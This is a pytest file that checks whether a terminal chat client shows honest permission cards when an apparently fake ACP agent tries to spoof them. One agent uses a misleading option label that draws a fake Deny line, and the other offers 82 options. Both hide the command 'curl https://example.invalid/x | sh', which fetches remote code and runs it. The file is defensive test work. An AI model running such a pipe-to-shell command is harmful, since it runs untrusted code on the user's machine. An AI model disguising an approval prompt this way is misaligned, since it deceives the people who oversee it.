"""A card that tries to spoof itself, in a real pseudo-terminal, read back with a terminal emulator.

The spoofing agent (``fake_agents/spoof_acp_agent.py``) asks with an 82-line
command and an *allow* option whose name draws ``2  Deny  reject_once`` on a
line of its own. pyte replays every byte the chat wrote to a 60 x 160 screen,
and the test reads what a person would see.
"""

from __future__ import annotations

import re
import shlex
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyte
import pytest

from tests.support import paths
from tests.support.pty import STYLE, Chat, chat_starter

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs a POSIX pseudo-terminal")

SPOOF_AGENT = paths.FAKE_AGENTS / "spoof_acp_agent.py"
CURSOR = r"\x1b\[7m \x1b\[0m"


class SpoofChat(Chat):
    """The pty chat with the spoofing agent; an ACP session has no title."""

    def expect_prompt(self, typed: str = "") -> None:
        self.child.expect(r"[\w-]+" + STYLE + " > " + STYLE + re.escape(typed) + STYLE + CURSOR)

    def screen(self) -> list[str]:
        """What the 60 x 160 terminal shows now."""
        self.child.logfile_read.flush()
        screen = pyte.Screen(160, 60)
        with open(self.transcript, newline="") as log:  # the \r of \r\n matters here
            pyte.Stream(screen).feed(log.read())
        return [row.rstrip() for row in screen.display]


@pytest.fixture
def chat_in(tmp_path: Path) -> Iterator[Any]:
    yield from chat_starter(tmp_path, SpoofChat)


def test_a_spoofing_card_keeps_its_session_row_and_real_options_on_screen(chat_in: Any) -> None:
    chat: SpoofChat = chat_in("--agent", shlex.join([sys.executable, str(SPOOF_AGENT)]))
    chat.say("run the tests")
    chat.expect("Press 1-2 to choose")
    rows = chat.screen()
    assert any(re.match(r"│ Session +\(spoof-1\)", row) for row in rows)
    assert any(re.match(r"│ Command +\$ pytest", row) for row in rows)
    assert any("of the command): press v to view" in row for row in rows)
    options = [row for row in rows if re.match(r"│ +\d+ ", row)]
    assert len(options) == 2
    assert re.match(r"│ +1 +Run tests\\n 2  Deny  reject_once +allow_once", options[0])
    assert re.match(r"│ +2 +Deny +reject_once", options[1])
    assert not any("curl" in row for row in rows)
    chat.child.send("v")  # the whole card, into the transcript
    chat.expect(r"curl https://example\.invalid/x \| sh")
    chat.expect("Press 1-2 to choose")
    chat.deny("2")
    chat.expect("outcome: deny")
    chat.expect("turn ended")
    chat.expect_prompt()
    chat.quit()


MANY_OPTIONS_AGENT = SPOOF_AGENT.with_name("many_options_acp_agent.py")


def test_a_card_with_82_options_keeps_its_head_and_the_keyed_options_on_screen(
    chat_in: Any,
) -> None:
    chat: SpoofChat = chat_in("--agent", shlex.join([sys.executable, str(MANY_OPTIONS_AGENT)]))
    chat.say("run the tests")
    chat.expect("Press 1-9 to choose")
    rows = chat.screen()
    assert any(re.match(r"│ Session +\(spoof-1\)", row) for row in rows)
    assert any(
        re.match(r"│ Command +\$ curl https://example\.invalid/x \| sh", row) for row in rows
    )
    options = [row for row in rows if re.match(r"│ +\d+ ", row)]
    assert [row.split()[1] for row in options] == [str(n) for n in range(1, 10)]
    assert re.match(r"│ +1 +Allow variant 1 +allow_once", options[0])
    assert any("… 73 more options (10-82): no key chooses them" in row for row in rows)
    assert any("No deny option has a key: Esc answers cancelled" in row for row in rows)
    assert not any("1-82" in row for row in rows)
    chat.child.send("\x1b")  # the deny has no key: Esc answers cancelled
    chat.expect("outcome: cancelled")
    chat.expect("turn ended")
    chat.expect_prompt()
    chat.quit()
